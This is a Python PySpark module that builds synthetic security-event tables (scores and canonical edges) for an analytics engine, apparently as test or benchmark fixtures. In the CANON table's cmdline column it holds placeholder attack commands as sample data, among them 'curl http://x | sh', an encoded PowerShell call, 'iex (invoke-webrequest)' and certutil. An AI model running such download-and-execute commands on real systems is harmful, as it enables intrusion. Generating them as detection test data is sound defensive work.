"""The driver's tables as the engine's inputs. The column texts are SQL that Spark and other
engines read alike, so queries and their equivalents share one mapping."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..constants import IOC_PRIORITY

TYPE_LIST = ", ".join(f"'{t}'" for t in IOC_PRIORITY)
TYPE_CASE = "CASE " + " ".join(f"WHEN k % 17 = {i} THEN '{t}'" for i, t in enumerate(IOC_PRIORITY)) + " END"

#: What the first step gives: event_id, tsec (whole unix seconds), user_id, event_type, value, k.
FIRST = "event_id, user_id, event_type, value, CAST(regexp_extract(props, '[0-9]+', 0) AS BIGINT) AS k"

SCORES = f"""
  event_id AS row_seq,
  'sc' || CAST(user_id % 7 + 1 AS VARCHAR(4)) AS scenario,
  tsec AS t,
  CASE event_type WHEN 'click' THEN 0 WHEN 'error' THEN 1 WHEN 'purchase' THEN 2 WHEN 'signup' THEN 3 ELSE 4 END AS etype,
  user_id AS src,
  1000000 + k % 10 AS dst,
  value AS score,
  CASE WHEN event_type = 'error' AND value > 35 THEN 1 ELSE 0 END AS is_ioc,
  CASE k % 3 WHEN 0 THEN 'azure_events.csv' WHEN 1 THEN 'zeek_conn.csv' ELSE 'eve.json' END AS source_file,
  event_id AS row_idx,
  {TYPE_CASE} AS ioc_type,
  CASE WHEN event_type = 'error' AND value > 35 THEN 1 ELSE 0 END AS y_ioc,
  CASE WHEN k % 5 = 0 THEN 1 ELSE 0 END AS y_rule,
  CASE WHEN k % 25 = 0 THEN 1 ELSE 0 END AS y_rule_high,
  {TYPE_CASE} AS rule_ioc_type
"""

CANON = """
  event_id AS event_seq,
  'sc' || CAST(user_id % 7 + 1 AS VARCHAR(4)) AS scenario,
  CASE k % 3 WHEN 0 THEN 'azure_events.csv' WHEN 1 THEN 'zeek_conn.csv' ELSE 'eve.json' END AS source_file,
  event_id % 997 AS row_idx,
  CASE WHEN k % 2 = 0 THEN 'CONNECT' ELSE 'WRITE' END AS edge_type,
  'PROC' AS src_type,
  'host::proc::' || CAST(user_id AS VARCHAR(20)) AS src_key,
  CASE WHEN k % 2 = 0 THEN 'NET' ELSE 'FILE' END AS dst_type,
  CASE WHEN k % 2 = 0 THEN '10.0.0.' || CAST(k % 10 AS VARCHAR(20)) || ':' || CASE k % 4 WHEN 0 THEN '4444' ELSE '443' END ELSE '/tmp/f' || CAST(k % 10 AS VARCHAR(20)) END AS dst_key,
  CASE WHEN k % 13 = 0 THEN NULL ELSE CAST(tsec AS DOUBLE) END AS ts,
  event_id AS ord,
  CASE k % 9 WHEN 0 THEN 'curl http://x | sh' WHEN 1 THEN 'powershell -enc AAAA' WHEN 2 THEN 'echo hello' WHEN 3 THEN 'wget file' WHEN 4 THEN 'certutil.exe -f' WHEN 5 THEN 'iex (invoke-webrequest)' ELSE '' END AS cmdline,
  '' AS evidence,
  CASE WHEN k % 2 = 0 THEN CAST(floor(value * 10) AS BIGINT) END AS bytes_sent,
  CASE WHEN k % 2 = 0 THEN CASE k % 6 WHEN 0 THEN 'in' WHEN 2 THEN 'outbound' ELSE 'x' END END AS direction,
  CASE WHEN k % 2 = 0 THEN 'tcp' END AS proto,
  CASE WHEN k % 2 = 0 THEN event_type END AS service
"""


def first_step(events: DataFrame) -> DataFrame:
    whole = F.expr("timestampdiff(SECOND, TIMESTAMP_NTZ'1970-01-01 00:00:00', ts)") if dict(events.dtypes)["ts"] == "timestamp_ntz" else F.unix_seconds("ts")
    return events.select(F.expr("event_id"), "user_id", "event_type", "value", F.expr("CAST(regexp_extract(props, '[0-9]+', 0) AS BIGINT) AS k"), whole.cast("bigint").alias("tsec"))


def _columns(text: str) -> list[str]:
    return [c.strip() for c in text.strip().split(",\n")]


def scores(spark: SparkSession, sf_dir: str) -> DataFrame:
    return first_step(spark.read.parquet(f"{sf_dir}/events.parquet")).selectExpr(*_columns(SCORES))


def canon(spark: SparkSession, sf_dir: str) -> DataFrame:
    return first_step(spark.read.parquet(f"{sf_dir}/events.parquet")).selectExpr(*_columns(CANON))


#: The same two tables for the SQL equivalents.
SQL_FIRST = f"first_step AS (SELECT {FIRST}, CAST(floor(epoch(ts)) AS BIGINT) AS tsec FROM events)"
SQL_SCORES = f"{SQL_FIRST}, scores AS (SELECT {SCORES} FROM first_step)"
SQL_CANON = f"{SQL_FIRST}, canon AS (SELECT {CANON} FROM first_step)"
